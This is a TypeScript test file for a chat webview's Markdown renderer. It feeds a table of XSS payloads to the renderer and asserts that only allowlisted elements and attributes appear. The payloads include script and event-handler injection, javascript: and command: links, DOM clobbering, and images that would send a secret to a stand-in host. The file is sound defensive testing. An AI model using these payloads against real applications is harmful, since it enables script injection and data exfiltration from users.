// @vitest-environment happy-dom
import { render } from 'preact';
import { afterEach, describe, expect, it } from 'vitest';
import { ChatProvider, createChat, type Chat } from '../../../src/webview/chat';
import { createHostPair } from '../../../src/webview/host';
import { Markdown } from '../../../src/webview/markdown/Markdown';
import { sampleAnswer, snapshot } from '../../webview/support/conversation';

const allowedElements = new Set(
  (
    'div span p h3 h4 h5 h6 ul ol li blockquote hr br table thead tbody tr th td strong em del code pre a img ' +
    'button input svg path'
  ).split(' '),
);
const allowedAttributes = new Set(
  (
    'class dir title href rel role aria-label aria-hidden aria-pressed aria-expanded data-label type disabled checked ' +
    'tabindex start src alt viewBox focusable d fill-rule clip-rule'
  ).split(' '),
);

/** Families of attacks on whatever draws a model's words. */
const payloads: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  onerror: '<img src=x onerror=alert(1)>',
  svg: '<svg/onload=alert(1)><use href="https://c.test/x.svg#a"/></svg>',
  mathml: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  details: '<details open ontoggle=alert(1)>x</details>',
  iframe: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  form: '<form action="https://c.test"><button>go</button></form>',
  base: '<base href="https://c.test/"><meta http-equiv="refresh" content="0;url=https://c.test">',
  style: '<style>@import "https://c.test/x.css"; * { background: url(https://c.test/y) }</style>',
  template:
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  clobbering: '<a id=acquireVsCodeApi><a id=acquireVsCodeApi name=postMessage>',
  comment: '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>]]>',
  javascriptLink:
    '[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) [z](java&Tab;script:alert(1)) <javascript:alert(1)>',
  otherLinks:
    '[a](data:text/html,<b>) [b](vbscript:x) [c](command:workbench.action.quit?%5B%5D) [d](vscode://a.b) [e](file:///etc/passwd) [f](//c.test)',
  referenceLink: '[x][r]\n\n[r]: javascript:alert(1) "t"\n\n[y][s]\n\n[s]: <command:a.b>',
  autolink: '<command:workbench.action.quit> <vscode://x/y> <data:text/html,x> www.c.test ftp://c.test',
  brokenAttribute: '[x](https://c.test/"onmouseover="alert(1)) [y](https://c.test/\'><script>)',
  titleAttribute: '[x](https://c.test "\\" onclick=alert(1)")',
  image: '![secret](https://c.test/?q=SECRET) ![x][i]\n\n[i]: https://c.test/i.png',
  imageInLink: '[![x](https://c.test/a.png)](javascript:alert(1))',
  imageSources:
    '![a](data:image/svg+xml;base64,PHN2Zz4=) ![b](file:///x.png) ![c](//c.test/x.png) ![d](javascript:alert(1))',
  imageTags:
    '<picture><source srcset="https://c.test/a"><img srcset="https://c.test/b"></picture><video poster=https://c.test/c>',
  diagram: '```mermaid\ngraph TD; A[<img src="https://c.test">]-->B; click A href "javascript:alert(1)"\n```',
  formula: '$$\\includegraphics{https://c.test/x}\\href{javascript:alert(1)}{x}$$',
  codeInfo: '```js"onmouseover="alert(1)\nx\n```\n\n```<script>\ny\n```',
  tableAlign: '| a |\n|:-:|\n| <img src=x onerror=alert(1)> |',
  footnote: '[^1]\n\n[^1]: javascript:alert(1)',
  hidden: 'a\u202Eb\u200Bc\u{e0041}',
  nulls: 'a\u0000<scr\u0000ipt>alert(1)</script>',
};

let chat: Chat | undefined;

function draw(text: string, growing = false, root = document.createElement('div')): HTMLElement {
  const { view } = createHostPair();
  chat ??= createChat({
    transport: view,
    frames: { schedule: () => () => undefined },
    timers: { after: () => ({ dispose: () => undefined }) },
    createId: () => 'id',
  });
  chat.store.apply([{ type: 'snapshot', snapshot: snapshot() }]);
  render(
    <ChatProvider value={chat}>
      <Markdown text={text} growing={growing} />
    </ChatProvider>,
    root,
  );
  return root;
}

function problemsIn(root: HTMLElement): readonly string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const name = element.localName;
    const problems = allowedElements.has(name) ? [] : [`<${name}>`];
    for (const { name: attribute, value } of element.attributes) {
      if (!allowedAttributes.has(attribute)) {
        problems.push(`${name} ${attribute}="${value}"`);
      }
      if (attribute === 'href' && !/^(?:https?:\/\/|mailto:)/.test(value)) {
        problems.push(`href="${value}"`);
      }
      if (attribute === 'src' && !/^data:image\/(?:png|jpeg|gif|webp);base64,/.test(value)) {
        problems.push(`src="${value}"`);
      }
    }
    return problems;
  });
}

afterEach(() => {
  chat?.dispose();
  chat = undefined;
});

describe('Markdown', () => {
  it.each(Object.entries(payloads))('draws nothing but what is allowed of: %s', (_name, payload) => {
    expect(problemsIn(draw(payload))).toEqual([]);
    expect(problemsIn(draw(payload, true))).toEqual([]);
    expect(problemsIn(draw(`> - ${payload.replaceAll('\n', '\n>   ')}`))).toEqual([]);
  });

  it.each(Object.entries(payloads))(
    'draws nothing but what is allowed at any moment of its arrival: %s',
    (_name, payload) => {
      const root = document.createElement('div');
      for (let end = 1; end <= payload.length; end += 1) {
        draw(payload.slice(0, end), true, root);
        expect(problemsIn(root)).toEqual([]);
      }
    },
  );

  it('shows HTML as the text that it is', () => {
    expect(draw(payloads['script'] ?? '').textContent).toBe('<script>alert(1)</script>');
  });

  it('shows what a refused link leads to, instead of a link', () => {
    const root = draw('[click me](command:workbench.action.quit)');
    expect(root.querySelector('a')).toBeNull();
    expect(root.textContent).toBe('click me (command:workbench.action.quit)');
  });

  it('shows the real host of a link whose words name another one', () => {
    const root = draw('[https://bank.test](https://evil.test/login)');
    expect(root.querySelector('a')?.getAttribute('title')).toBe('https://evil.test/login');
    expect(root.textContent).toContain('(evil.test)');
  });

  it('puts a named button where a remote image would be', () => {
    const root = draw('![a cat](https://c.test/cat.png?q=SECRET)');
    expect(root.querySelector('img')).toBeNull();
    expect(root.querySelector('button.blocked-image')?.textContent).toBe('Image not loaded: a cat (c.test)');
  });

  it('draws a small embedded raster image', () => {
    const root = draw('![dot](data:image/png;base64,iVBORw0KGgo=)');
    expect(root.querySelector('img')?.getAttribute('alt')).toBe('dot');
  });

  it('draws headings, lists, tasks, tables and code', () => {
    const root = draw(`# Title\n\n${sampleAnswer}`);
    expect(root.querySelector('h3')?.textContent).toBe('Title');
    expect(root.querySelectorAll('ol > li')).toHaveLength(2);
    expect([...root.querySelectorAll<HTMLInputElement>('input[type=checkbox]')].map(({ checked }) => checked)).toEqual([
      true,
      false,
    ]);
    expect(root.querySelector('td.align-right')?.textContent).toBe('41 ms');
    expect(root.querySelector('.code-block .code-language')?.textContent).toBe('ts');
    expect(root.querySelector('.code-block .code-keyword')?.textContent).toBe('export');
    expect(root.querySelector('pre code')?.textContent).toContain('// One at a time keeps memory flat.');
  });

  it('marks what nobody would see, and keeps it for copying', () => {
    const root = draw('a\u202Eb');
    expect(root.querySelector('.invisible-mark')?.getAttribute('aria-label')).toBe('U+202E');
    expect(root.textContent).toBe('a\u202Eb');
  });

  it.each([
    ['quotes', `${'>'.repeat(10_000)} x`],
    ['brackets', '['.repeat(10_000)],
    ['stars', `${'*'.repeat(10_000)} x`],
    ['emphasis', '**a '.repeat(5_000)],
    ['links', '[a]('.repeat(5_000)],
    ['lists', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')],
    ['one line', 'word '.repeat(200_000)],
    ['cells', `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(25_000)}`],
    ['backticks', `${'`'.repeat(10_000)} x ${'`'.repeat(9_000)}`],
  ])('draws a mass of %s without deep recursion', (_name, text) => {
    const root = draw(text);
    expect(depthOf(root)).toBeLessThan(200);
    expect(root.textContent).not.toBe('');
  });

  it('loses no word of a text that is nested deeper than can be drawn', () => {
    const root = draw(`${'> '.repeat(200)}deep words`);
    expect(root.textContent).toContain('deep words');
  });
});

function depthOf(root: HTMLElement): number {
  let deepest = 0;
  for (const leaf of root.querySelectorAll('*:not(:has(*))')) {
    let depth = 0;
    for (let node: Element | null = leaf; node !== null; node = node.parentElement) {
      depth += 1;
    }
    deepest = Math.max(deepest, depth);
  }
  return deepest;
}
